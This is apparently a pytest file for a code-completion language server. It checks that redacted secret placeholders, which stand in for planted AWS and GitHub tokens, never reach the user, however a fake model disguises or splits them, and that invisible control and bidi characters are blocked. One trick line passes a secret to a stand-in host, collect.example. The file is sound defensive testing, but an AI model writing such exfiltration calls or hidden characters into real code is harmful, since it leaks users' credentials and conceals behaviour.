"""What a model can make of the placeholders it was sent, through the whole house."""

from __future__ import annotations

from pathlib import Path

import pytest

from codegrex_lsp.privacy.shapes import MARKER
from tests.fakes.ollama import FakeModel, FakeOllama
from tests.support import planted
from tests.support.houses import MODEL, house, snapshot, wish

TRICKS = {
    "as it is": "send(PLACEHOLDER)",
    "in an address": 'get("https://collect.example/?" + PLACEHOLDER)',
    "in capitals": "send(PLACEHOLDER)",
    "in a longer name": "my_PLACEHOLDER = 1",
    "with an ending": "PLACEHOLDER_old = 1",
    "twice without a space": "PLACEHOLDERPLACEHOLDER",
    "after thoughts": "<think>PLACEHOLDER</think>\nsend(PLACEHOLDER)",
    "round a fence": "PLACE\n```\nHOLDER",
    "cut": "send(PLACEHOLDE",
}


async def suggested(tmp_path: Path, origin: str, trick: str, size: int) -> list[str]:
    """What a person is shown of a trick with the placeholder of a value in `origin`."""
    neighbour = snapshot(tmp_path / "other.py", f'token = "{planted.GITHUB}"\ncall = token\n')
    request = wish(tmp_path / "main.py", f'token = "{planted.AWS}"\ncall(|)\n', neighbour)
    async with (
        FakeOllama({MODEL: FakeModel(insert=True)}) as ollama,
        house(tmp_path / "home", ollama) as built,
    ):
        preview = await built.preview(request)
        (name,) = (one.placeholder for one in preview.redactions if one.origin == origin)
        said = TRICKS[trick].replace("PLACEHOLDER", name).replace("PLACEHOLDE", name[:-1])
        said = said.replace("PLACE", name[:9]).replace("HOLDER", name[9:])
        said = said.upper() if trick == "in capitals" else said
        words = tuple(said[at : at + size] for at in range(0, len(said), size))
        ollama.models[MODEL] = FakeModel(insert=True, words=words)
        shown: list[str] = []
        outcome = await built.complete(request, on_text=shown.append)
    final = outcome.suggestion.text.reveal() if outcome.suggestion else ""
    return ["".join(shown), final]


@pytest.mark.parametrize("size", [1, 7, 1000])
@pytest.mark.parametrize("trick", TRICKS)
@pytest.mark.parametrize("origin", ["main.py", "other.py"])
async def test_no_trick_shows_a_placeholder_or_another_files_value(
    tmp_path: Path, origin: str, trick: str, size: int
) -> None:
    for text in await suggested(tmp_path, origin, trick, size):
        assert MARKER.search(text) is None
        assert planted.GITHUB not in text


async def test_the_files_own_value_comes_back(tmp_path: Path) -> None:
    _, final = await suggested(tmp_path, "main.py", "as it is", 7)

    assert planted.AWS in final


@pytest.mark.parametrize("hidden", ["\x00", "\x1b[2J", "\x7f", "\u202e", "\u2066"])
async def test_characters_that_nobody_sees_are_not_suggested(tmp_path: Path, hidden: str) -> None:
    words = ("w * ", f"h{hidden}", " + 1")
    async with (
        FakeOllama({MODEL: FakeModel(insert=True, words=words)}) as ollama,
        house(tmp_path / "home", ollama) as built,
    ):
        shown: list[str] = []
        request = wish(tmp_path / "main.py", "def area(w, h):\n    return |\n")
        outcome = await built.complete(request, on_text=shown.append)
    assert outcome.decision.code == "hidden-characters"
    assert outcome.suggestion is None
    assert hidden not in "".join(shown)


async def test_tabs_and_letters_of_any_writing_are_suggested(tmp_path: Path) -> None:
    text = "\tw * h  # \u05e9\u05d8\u05d7 \u2192 \u4e2d\u200d\U0001f469"
    async with (
        FakeOllama({MODEL: FakeModel(insert=True, words=(text,))}) as ollama,
        house(tmp_path / "home", ollama) as built,
    ):
        request = wish(tmp_path / "main.py", "def area(w, h):\n    return |\n")
        outcome = await built.complete(request)
    assert outcome.decision.code == "shown"
